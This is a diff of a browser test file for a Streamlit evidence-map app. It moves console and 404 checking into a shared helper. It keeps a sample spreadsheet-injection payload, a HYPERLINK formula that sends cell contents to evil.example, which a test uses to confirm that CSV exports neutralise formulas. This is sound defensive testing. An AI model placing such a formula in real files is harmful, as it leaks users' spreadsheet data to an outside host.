@@ -3,7 +3,7 @@
 Streamlit's frontend, opened at a page's own address (``/data``), first looks
 for the app's base path one level up: it asks ``/data/_stcore/health`` and
 ``/data/_stcore/host-config``, gets 404 and carries on at ``/``. Chromium logs
-each as "Failed to load resource". :func:`assert_clean` accepts exactly those
+each as "Failed to load resource". ``PageWatch.assert_clean`` (conftest) accepts exactly those
 console lines, and only when every 404 the page met was such a probe; any
 other console error or failed request fails the test.
 
@@ -26,25 +26,7 @@ from geo import export, press
 pytestmark = pytest.mark.browser
 
 COUNTS = re.compile(r"(\d+) of (\d+) sites · (\d+) of (\d+) claims")
-PROBE_404 = re.compile(r"^http://127\.0\.0\.1:\d+/[a-z]+/_stcore/(health|host-config)$")
 FORMULA_CLAIM = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the evidence")'
-
-
-def watch_failures(page) -> list[tuple[int, str]]:
-    failures: list[tuple[int, str]] = []
-    page.on("response", lambda r: r.status >= 400 and failures.append((r.status, r.url)))
-    return failures
-
-
-def assert_clean(watch, failures: list[tuple[int, str]]) -> None:
-    """No console errors and no external requests (Streamlit's base-path probes aside, see above)."""
-    assert watch.external_requests == []
-    unexpected = [f for f in failures if not (f[0] == 404 and PROBE_404.match(f[1]))]
-    assert unexpected == []
-    probe_lines = [e for e in watch.console_errors if e.startswith("Failed to load resource") and "404" in e]
-    other = [e for e in watch.console_errors if e not in probe_lines]
-    assert other == []
-    assert len(probe_lines) <= len(failures)
 
 
 def counts(page) -> tuple[int, int, int, int]:
@@ -71,7 +53,6 @@ def download(page, button_label: str) -> bytes:
 @pytest.mark.parametrize("query", ["?region=London", "?kind=parliament", "?region=Wales", "?q=Hancock"])
 def test_the_table_and_the_map_count_the_same(app_url, watched_page, query):
     page = watched_page.page
-    failures = watch_failures(page)
     open_app(page, app_url)
     page.goto(app_url + "/" + query)  # the map is the default page, served at /
     frame, state = map_frame(page, min_sites=0)
@@ -95,7 +76,7 @@ def test_the_table_and_the_map_count_the_same(app_url, watched_page, query):
     rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
     assert len(rows) == table_counts[2]
     assert len({r["site_id"] for r in rows}) <= table_counts[0]
-    assert_clean(watched_page, failures)
+    watched_page.assert_clean()
 
 
 @pytest.fixture(scope="module")
@@ -117,7 +98,6 @@ def formula_app(tmp_path_factory):
 
 def test_a_claim_beginning_with_equals_cannot_run_as_a_formula(formula_app, watched_page):
     page = watched_page.page
-    failures = watch_failures(page)
     open_app(page, formula_app)
     page.goto(formula_app + "/data?q=Fictional%20Formula")
     wait_for_text(page, "The evidence as a table")
@@ -136,12 +116,11 @@ def test_a_claim_beginning_with_equals_cannot_run_as_a_formula(formula_app, watc
         assert not cell.startswith(export.FORMULA_STARTS), cell
     # the raw bytes hold no line that begins a cell with "=" either
     assert not re.search(r'(^|,)"?=', text, re.MULTILINE)
-    assert_clean(watched_page, failures)
+    watched_page.assert_clean()
 
 
 def test_the_press_png_is_a_valid_image_of_the_promised_size(app_url, watched_page):
     page = watched_page.page
-    failures = watch_failures(page)
     open_app(page, app_url)
     page.goto(app_url + "/data?region=London")
     wait_for_text(page, "The evidence as a table")
@@ -155,7 +134,7 @@ def test_the_press_png_is_a_valid_image_of_the_promised_size(app_url, watched_pa
     # the embed code on the page carries the filters
     code = page.locator('[data-testid="stCode"]').first.inner_text()
     assert "embed=true" in code and "view=screenshot" in code and "region=London" in code
-    assert_clean(watched_page, failures)
+    watched_page.assert_clean()
 
 
 def popup_source_link(page, base: str):
@@ -186,17 +165,15 @@ def assert_lands_on_source(page, source_id: str) -> None:
 
 def test_the_address_of_a_popup_source_link_lands_on_that_source(app_url, watched_page):
     page = watched_page.page
-    failures = watch_failures(page)
     _, href, source_id = popup_source_link(page, app_url)
     assert href == f"{app_url}/sources?source={source_id}"
     page.goto(href)
     assert_lands_on_source(page, source_id)
-    assert_clean(watched_page, failures)
+    watched_page.assert_clean()
 
 
 def test_clicking_a_popup_source_link_lands_on_that_source(app_url, watched_page):
     page = watched_page.page
-    failures = watch_failures(page)
     link, href, source_id = popup_source_link(page, app_url)
     context = page.context
     before = len(context.pages)
@@ -213,12 +190,11 @@ def test_clicking_a_popup_source_link_lands_on_that_source(app_url, watched_page
     assert landed is not None, "the click did not open the sources page"
     landed.wait_for_load_state()
     assert_lands_on_source(landed, source_id)
-    assert_clean(watched_page, failures)
+    watched_page.assert_clean()
 
 
 def test_sources_filter_by_kind_and_method_page(app_url, watched_page):
     page = watched_page.page
-    failures = watch_failures(page)
     open_app(page, app_url)
     from geo.dataset import load_dataset
 
@@ -238,7 +214,7 @@ def test_sources_filter_by_kind_and_method_page(app_url, watched_page):
     for phrase in ("Official", "Documented", "Reported", "Organisation headquarters", "CC BY 4.0", "MIT License",
                    "Royal Mail", "Office for National Statistics", f"version {data.version}", "Says it does not use it"):
         wait_for_text(page, phrase)  # the page streams in; each phrase must appear
-    assert_clean(watched_page, failures)
+    watched_page.assert_clean()
 
 
 def test_a_direct_link_as_first_visit_runs_the_app(chromium, tmp_path):
